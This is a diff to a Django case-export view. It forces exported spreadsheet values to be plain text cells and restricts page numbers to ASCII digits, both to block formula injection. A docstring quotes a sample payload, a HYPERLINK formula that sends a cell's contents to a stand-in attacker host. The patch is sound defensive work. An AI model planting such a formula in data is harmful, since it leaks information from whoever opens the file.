@@ -12,6 +12,7 @@ from django.shortcuts import render
 from django.utils import timezone
 from django.views.decorators.http import require_POST
 from openpyxl import Workbook
+from openpyxl.cell import WriteOnlyCell
 
 from governance.api import http_status_for
 from governance.errors import ApplicationError
@@ -42,7 +43,7 @@ def _filter_choices() -> dict[str, Any]:
 
 def _page_number(request: HttpRequest) -> int:
     value = request.GET.get("page", "1")
-    return int(value) if value.isdigit() else 1
+    return int(value) if value.isascii() and value.isdigit() else 1
 
 
 def _query_without_page(request: HttpRequest) -> str:
@@ -76,6 +77,18 @@ EXPORT_COLUMNS = ["事项编号", "登记时间", "来源渠道", "事项类别"
                   "所属镇", "所属网格", "状态", "预计答复", "首接责任人", "受理窗口"]
 
 
+def _text_cells(sheet: Any, values: list[str]) -> list[WriteOnlyCell]:
+    """Every value as a text cell: openpyxl makes a string that starts with "=" a live formula, so a
+    title pushed as `=HYPERLINK("http://evil.example/"&B2,"详情")` would run in the reader's Excel.
+    A cell typed as a string is never evaluated, whatever it starts with (=, +, -, @)."""
+    cells = []
+    for value in values:
+        cell = WriteOnlyCell(sheet, value=value)
+        cell.data_type = "s"
+        cells.append(cell)
+    return cells
+
+
 @login_required
 def case_export(request: HttpRequest) -> HttpResponse:
     """The filtered list as .xlsx: rows are streamed from the database into a write-only workbook
@@ -92,7 +105,7 @@ def case_export(request: HttpRequest) -> HttpResponse:
     for case in selectors.case_export_rows(actor=request.user, filters=filters, limit=EXPORT_MAX_ROWS):
         applicant = case.applicant
         receiver = case.first_receiver
-        sheet.append([
+        sheet.append(_text_cells(sheet, [
             case.code,
             local(case.registered_at).strftime("%Y-%m-%d %H:%M"),
             str(channel_labels.get(case.channel, case.channel)),
@@ -107,7 +120,7 @@ def case_export(request: HttpRequest) -> HttpResponse:
             local(case.expected_answer_at).strftime("%Y-%m-%d") if case.expected_answer_at else "",
             receiver.get_full_name() or receiver.get_username(),
             str(case.window) if case.window else "",
-        ])
+        ]))
     handle = tempfile.TemporaryFile()  # noqa: SIM115 - handed to FileResponse, which closes it
     book.save(handle)
     handle.seek(0)
